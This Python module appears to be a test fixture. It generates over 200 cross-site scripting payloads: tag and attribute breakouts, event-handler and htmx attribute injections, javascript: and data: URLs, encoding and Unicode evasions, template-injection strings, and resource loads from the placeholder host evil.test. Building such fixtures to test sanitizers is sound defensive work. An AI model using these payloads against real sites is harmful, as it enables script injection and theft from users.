"""Texts that would be programs on a page that took them for markup: at least 200, all different.

`xss(…)` reports that one ran; `evil.test` and `/evil-…` that one could ask for something.
"""

from __future__ import annotations

# What ends the place that a text stands in.
BREAKS = (
    "",
    '">',
    "'>",
    "`>",
    '" x="',
    "</p>",
    "</script>",
    "</style>",
    "</textarea>",
    "</title>",
    "</template>",
    "-->",
    "]]>",
    "\n",
    "&quot;>",
)
# What then would run, or be fetched.
CORES = (
    "<script>xss({n})</script>",
    "<script src=//evil.test/{n}.js></script>",
    "<img src=x onerror=xss({n})>",
    "<IMG SRC=x OnErRoR=xss({n})>",
    "<img/src=x/onerror=xss({n})>",
    "<img src=//evil.test/{n}.png>",
    "<svg onload=xss({n})>",
    "<svg/onload=xss({n})>",
    "<svg><script>xss({n})</script></svg>",
    "<svg><animate onbegin=xss({n}) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=xss({n})/>#x'>",
    "<math><mtext><table><mglyph><style><img src onerror=xss({n})>",
    "<iframe src=javascript:xss({n})>",
    "<iframe srcdoc='<script>parent.xss({n})</script>'>",
    "<object data=javascript:xss({n})>",
    "<embed src=javascript:xss({n})>",
    "<details open ontoggle=xss({n})>x",
    "<body onload=xss({n})>",
    "<input autofocus onfocus=xss({n})>",
    "<video><source onerror=xss({n})>",
    "<audio src=x onerror=xss({n})>",
    "<marquee onstart=xss({n})>x",
    "<style>@import '//evil.test/{n}.css';</style>",
    "<link rel=stylesheet href=//evil.test/{n}.css>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/{n}'>",
    "<form action=//evil.test/{n}><button autofocus>x</button></form>",
    "<p style='background:url(//evil.test/{n})'>x",
    "<template shadowrootmode=open><img src=x onerror=xss({n})></template>",
    "<noscript><p title='</noscript><img src=x onerror=xss({n})>'>",
    "<!--><img src=x onerror=xss({n})>-->",
    "<x onfocus=xss({n}) tabindex=0 autofocus>x",
    "<div hx-get=/evil-{n} hx-trigger=load>x</div>",
    "<div data-hx-get=/evil-{n} data-hx-trigger=load>x</div>",
    "<div hx-on:click=xss({n}) hx-on--load=xss({n})>x</div>",
    "<div hx-sse:connect=/evil-{n}>x</div>",
    "<div hx-trigger='load[xss({n})]' hx-get=/evil-{n}>x</div>",
    "<div hx-vals='js:{{a:xss({n})}}' hx-post=/evil-{n} hx-trigger=load>x</div>",
    "<hx-partial hx-target=body hx-swap=beforeend><img src=x onerror=xss({n})></hx-partial>",
    "<p id=composer-notice hx-swap-oob=true><img src=x onerror=xss({n})></p>",
)
# What needs no markup of its own.
WHOLE = (
    "javascript:xss({n})",
    "JaVaScRiPt:xss({n})",
    "java\tscript:xss({n})",
    " javascript:xss({n})",
    "\x01javascript:xss({n})",
    "javascript://evil.test/%0axss({n})",
    "data:text/html,<script>xss({n})</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKDEpPC9zY3JpcHQ+#{n}",
    "vbscript:xss({n})",
    'https://evil.test/{n}" onmouseover=xss({n}) x="',
    "https://evil.test/{n}'onmouseover='xss({n})",
    "http://evil.test/<img src=x onerror=xss({n})>",
    "https://evil.test/{n}`onerror=xss({n})`",
    '" autofocus onfocus=xss({n}) x="',
    "' autofocus onfocus=xss({n}) x='",
    "` autofocus onfocus=xss({n}) x=`",
    "x onfocus=xss({n}) autofocus",
    "&lt;img src=x onerror=xss({n})&gt;",
    "&#60;img src=x onerror=xss({n})&#62;",
    "%3Cimg src=x onerror=xss({n})%3E",
    "\\u003cimg src=x onerror=xss({n})\\u003e",
    "\uff1cscript\uff1exss({n})\uff1c/script\uff1e",
    "+ADw-script+AD4-xss({n})+ADw-/script+AD4-",
    "<\u200bscript>xss({n})</script>",
    "\u202e<img src=x onerror=xss({n})>",
    "${{xss({n})}}",
    "{{{{ xss({n}) }}}}",
    "{{% include 'evil-{n}' %}}",
    "{{{{constructor.constructor('xss({n})')()}}}}",
    "';xss({n});'",
    '";xss({n});"',
    "\\';xss({n});//",
    "</script><script>xss({n})</script>",
    "<!--<script>xss({n})//-->",
    "[x](javascript:xss({n}))",
    "![x](//evil.test/{n}.png)",
    "expression(xss({n}))",
    "url(javascript:xss({n}))",
    "threads\n\nevent: evil-{n}\ndata: <img src=x onerror=xss({n})>",
    "<scr<script>ipt>xss({n})</scr</script>ipt>",
)


def _all() -> list[str]:
    """Every core once, after one break after the other, and at least twice; and the whole ones."""
    forms = [
        BREAKS[(at * 7 + place) % len(BREAKS)] + core
        for at in range(5)
        for place, core in enumerate(CORES)
    ]
    return [form.format(n=number) for number, form in enumerate([*forms, *WHOLE])]


PAYLOADS = _all()
# For columns that hold no more than a word.
SHORT = [f"<svg onload=xss({number})>" for number in range(900, 910)]
